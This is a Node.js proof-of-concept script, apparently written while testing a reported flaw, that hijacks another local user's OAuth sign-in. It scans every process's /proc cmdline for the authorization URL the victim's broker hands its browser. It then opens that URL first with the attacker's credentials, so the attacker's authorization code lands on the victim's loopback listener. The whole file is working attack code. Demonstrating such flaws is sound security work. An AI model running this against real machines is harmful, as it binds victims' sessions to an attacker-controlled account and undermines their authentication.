// The sign-in hijack of issue 10 item 1, as another local user would try it: watch every
// process's command line (/proc/*/cmdline is readable by everyone) for the URL the victim's
// broker hands its browser, open that URL first, sign in at the provider as ourselves, and let
// the redirect deliver OUR authorization code to the victim's loopback listener.
//
// usage: node hijack-sign-in.mjs --match SUBSTRING --username U --password P [--timeout-ms N]
// Prints JSON lines: {"found":URL,"pid":N} then {"hijack":{hops,final,status}}, or {"found":null}.
import { readFileSync, readdirSync } from 'node:fs';
import { parseArgs } from 'node:util';
import { browse } from './mini-browser.mjs';

const { values } = parseArgs({
  options: {
    match: { type: 'string' },
    username: { type: 'string' },
    password: { type: 'string' },
    'timeout-ms': { type: 'string', default: '20000' },
  },
});

function scan() {
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    let args;
    try {
      args = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');
    } catch {
      continue;
    }
    if (values.match !== undefined && !args.some((arg) => arg.includes(values.match))) continue;
    const url = args.find((arg) => /^https?:\/\//.test(arg));
    if (url !== undefined) return { url, pid: Number(pid) };
  }
  return undefined;
}

const deadline = Date.now() + Number(values['timeout-ms']);
let found;
while (Date.now() < deadline && (found = scan()) === undefined) await new Promise((resolve) => setTimeout(resolve, 10));
console.log(JSON.stringify({ found: found?.url ?? null, pid: found?.pid ?? null }));
if (found !== undefined) {
  const result = await browse(found.url, { username: values.username, password: values.password });
  console.log(JSON.stringify({ hijack: { hops: result.hops, final: result.final, status: result.status ?? null } }));
}
